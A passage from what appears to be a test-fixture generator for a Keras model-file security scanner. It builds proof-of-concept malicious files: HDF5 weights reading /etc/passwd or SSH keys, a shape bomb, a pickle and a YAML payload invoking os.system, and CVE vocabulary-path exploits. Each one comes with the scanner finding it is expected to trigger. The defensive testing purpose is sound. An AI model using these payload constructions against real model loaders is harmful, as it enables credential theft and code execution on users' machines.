    keras.Model(x, layer(x), name=cls.lower()).save(f"{out}/_vocab_{cls}.keras")
print(json.dumps({}))
"""


def _h5_bytes(build: Any) -> bytes:
    """An HDF5 file written by h5py in memory."""
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w", libver="earliest") as f:
        build(f)
    return buf.getvalue()


def _keras_with_weights(path: Path, weights: bytes) -> None:
    """A .keras archive laid out as Keras writes it (stored members), with the given weights file."""
    cfg = functional([input_layer(), layer("Dense", {"name": "dense", "units": 4},
                                           inbound=[{"args": [kt("x")], "kwargs": {}}])])
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.12.0", "date_saved": "2025-01-01@00:00:00"}))
        zf.writestr("config.json", json.dumps(cfg))
        zf.writestr("model.weights.h5", weights)


def make_hdf5_pocs() -> None:
    """CVE-2026-1669 family (HDF5 weights reading host files), a shape bomb, and a PyTables pickle row."""
    import h5py
    import numpy as np

    def external_storage(f: Any) -> None:
        g = f.create_group("layers/dense/vars")
        g.create_dataset("0", shape=(64,), dtype="u1", external=[("/etc/passwd", 0, 64)])

    p = MALICIOUS / "cve_2026_1669_external_storage.keras"
    _keras_with_weights(p, _h5_bytes(external_storage))
    expect(p, "scanned", {"KER407": "high"}, "CVE-2026-1669: weight bytes kept in the host file /etc/passwd")

    def virtual(f: Any) -> None:
        lay = h5py.VirtualLayout(shape=(4,), dtype="f4")
        lay[:] = h5py.VirtualSource("/home/victim/secret.h5", "data", shape=(4,))
        f.create_group("layers/dense/vars").create_virtual_dataset("0", lay)

    p = MALICIOUS / "h5_virtual_dataset.keras"
    _keras_with_weights(p, _h5_bytes(virtual))
    expect(p, "scanned", {"KER407": "high"}, "virtual dataset mapping another host file (keras PR 22976)")

    def bomb(f: Any) -> None:
        f.create_group("layers/dense/vars").create_dataset("0", shape=(1 << 33,), dtype="f8", chunks=(1024,))

    p = MALICIOUS / "h5_shape_bomb.keras"
    _keras_with_weights(p, _h5_bytes(bomb))
    expect(p, "scanned", {"KER408": "high"}, "64 GiB declared, nothing stored (keras PR 22975)")

    p = MALICIOUS / "h5_external_link.h5"
    with h5py.File(p, "w") as f:
        f.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": []}})
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f["model_weights"] = h5py.ExternalLink("/home/victim/secret.h5", "/model_weights")
    expect(p, "scanned", {"KER407": "high"}, "legacy .h5 whose model_weights is an ExternalLink (keras PR 22900)")

    payload = (b"\x80\x02cposix\nsystem\nq\x00X" + len(f"touch {MARKER}").to_bytes(4, "little")
               + f"touch {MARKER}".encode() + b"q\x01\x85q\x02Rq\x03.")

    def object_atom(f: Any) -> None:
        f.attrs["CLASS"] = np.bytes_(b"GROUP")
        f.attrs["PYTABLES_FORMAT_VERSION"] = np.bytes_(b"2.1")
        ds = f.create_dataset("obj", shape=(1,), dtype=h5py.vlen_dtype(np.dtype("u1")))
        ds[0] = np.frombuffer(payload, dtype="u1")
        for k, v in (("CLASS", b"VLARRAY"), ("VERSION", b"1.4"), ("TITLE", b""), ("PSEUDOATOM", b"object")):
            ds.attrs[k] = np.bytes_(v)

    p = MALICIOUS / "pytables_object_atom.h5"
    p.write_bytes(_h5_bytes(object_atom))
    expect(p, "scanned", {"KER409": "low", "PKL100": "critical"},
           "PyTables object-atom VLArray row holding a pickle (pandas.read_hdf unpickles it)")


def make_extra(tf_keras_python: str | None) -> dict[str, Any]:
    """Issue 9 fixtures: real custom-object and preprocessing models, and the CVE-2025-12058 PoCs."""
    BENIGN.mkdir(parents=True, exist_ok=True)
    MALICIOUS.mkdir(parents=True, exist_ok=True)
    env = dict(os.environ, KERAS_BACKEND="torch")
    versions = run_script(KERAS3_EXTRA_SCRIPT, env)
    for name in ("k3_custom_objects.keras", "k3_custom_objects.h5"):
        expect(BENIGN / name, "scanned", {"KER402": "low"},
               "registered, __main__ and package custom objects (layer, loss, activation, initializer, "
               "regularizer, metric): the loader's own code, none in the file (low)")
    expect(BENIGN / "k3_subclassed.keras", "scanned", {"KER402": "low"}, "registered subclassed keras.Model")
    expect(BENIGN / "k3_preprocessing.keras", "scanned", {}, "standard preprocessing layers, vocabulary asset")
    expect(BENIGN / "k3_image_preprocessing.keras", "scanned", {}, "image preprocessing layers")
    if tf_keras_python:
        res = subprocess.run([tf_keras_python, "-c", TFKERAS_EXTRA_SCRIPT, str(BENIGN)], env=dict(os.environ),
                             capture_output=True, text=True, check=False)
        if res.returncode:
            sys.exit(f"tf.keras fixture script failed:\n{res.stderr[-4000:]}")
        versions.update(json.loads(res.stdout.strip().splitlines()[-1]))
    if (BENIGN / "tfk_custom.h5").exists():
        expect(BENIGN / "tfk_custom.h5", "scanned", {"KER402": "low"}, "tf.keras registered layer and loss")
        expect(BENIGN / "tfk_custom.keras", "scanned", {"KER402": "low"}, "tf.keras registered layer and loss")
    if (BENIGN / "tfk_model_config.yaml").exists():
        expect(BENIGN / "tfk_model_config.yaml", "skipped", {}, "Keras 2 to_yaml shape (!!python/tuple only)")
    tmp = MALICIOUS / "_tmp"
    tmp.mkdir(exist_ok=True)
    res = subprocess.run([sys.executable, "-c", VOCAB_SCRIPT, str(tmp)], env=env, capture_output=True,
                         text=True, check=False)
    if res.returncode:
        sys.exit(f"vocabulary fixture script failed:\n{res.stderr[-4000:]}")
    for cls, path in (("StringLookup", "/etc/passwd"), ("IntegerLookup", "/proc/self/environ"),
                      ("TextVectorization", "/root/.ssh/id_rsa")):
        p = MALICIOUS / f"cve_2025_12058_{cls.lower()}.keras"
        _poc_vocabulary(tmp / f"_vocab_{cls}.keras", p, cls, path)
        expect(p, "scanned", {"KER404": "high"}, f"CVE-2025-12058: {cls} vocabulary read from {path}")
    shutil.rmtree(tmp)

    make_hdf5_pocs()
    try:  # pandas' HDF5 stores (PyTables): object columns in the fixed format are pickled rows
        import numpy as np
        import pandas as pd
        import tables  # noqa: F401
    except ImportError:
        print("pandas / tables not installed: skipping pandas HDF5 stores")
    else:
        df = pd.DataFrame({"a": np.arange(5), "b": list("vwxyz"), "c": np.linspace(0, 1, 5)})
        df.to_hdf(BENIGN / "pandas_fixed.h5", key="df", format="fixed", complevel=9, complib="zlib")
        df.to_hdf(BENIGN / "pandas_table.h5", key="df", format="table", complevel=9, complib="zlib")
        expect(BENIGN / "pandas_fixed.h5", "scanned", {"KER409": "low"},
               "pandas fixed-format store: the object column is a pickled row of plain strings (low)")
        expect(BENIGN / "pandas_table.h5", "scanned", {}, "pandas table-format store")

    # CVE-2021-37678: tf.keras model_from_yaml used yaml.unsafe_load; the advisory's payload, verbatim shape.
    p = MALICIOUS / "cve_2021_37678_model.yaml"
    p.write_text("!!python/object/new:type\n"
                 "args: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\n"
                 f"listitems: \"__import__('os').system('touch {MARKER}')\"\n")
    expect(p, "scanned", {"KER410": "critical"}, "CVE-2021-37678: Python tags in a Keras YAML config")

    # CVE-2025-1550 shape with a module no policy tier knows: old Keras imports it and calls it.
    p = MALICIOUS / "unknown_module_command_argument.keras"
    write_keras(p, functional([input_layer(), layer("spawn", {"name": "s", "command": f"touch {MARKER}"},
                                                    module="pexpect_like_pkg",
                                                    inbound=[{"args": [kt("x")], "kwargs": {}}])]))
    expect(p, "scanned", {"KER402": "high"}, "unknown module called with a command-like argument")
    return versions


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--tf-keras-path", help="PYTHONPATH of an environment with tensorflow + tf_keras")
    parser.add_argument("--tf-keras-python", help="a Python with tensorflow + tf_keras (for the extra fixtures)")
    parser.add_argument("--extra-only", action="store_true",
                        help="make only the issue-9 extra fixtures and merge them into the existing manifest")
    args = parser.parse_args()
    if args.extra_only:
        old = json.loads((HERE / "MANIFEST.json").read_text())
        MANIFEST.update(old["files"])
        versions = dict(old["versions"])
        versions["extra"] = make_extra(args.tf_keras_python)
        # Entries whose expectation changed with the extra fixtures' rules (kept in step with make_benign).
        MANIFEST["benign/k3_custom.keras"]["rules"] = {"KER402": "low"}
        MANIFEST["malicious/vocabulary_path.keras"]["rules"] = {"KER404": "high"}
        for name in ("benign/k3_lambda.h5", "benign/tfk_lambda.h5"):
            MANIFEST[name]["rules"] = {"KER400": "high"}
    else:
        versions = make_benign(args.tf_keras_path)
        make_malicious()
        versions["extra"] = make_extra(args.tf_keras_python)
        versions["marshal_vectors"] = make_marshal_vectors()
    (HERE / "MANIFEST.json").write_text(json.dumps(
        {"generator": "tests/assets/make_keras.py", "versions": versions, "files": MANIFEST},
        indent=1, sort_keys=True) + "\n")
    print(f"wrote {len(MANIFEST)} fixtures under {HERE}")


if __name__ == "__main__":
    main()
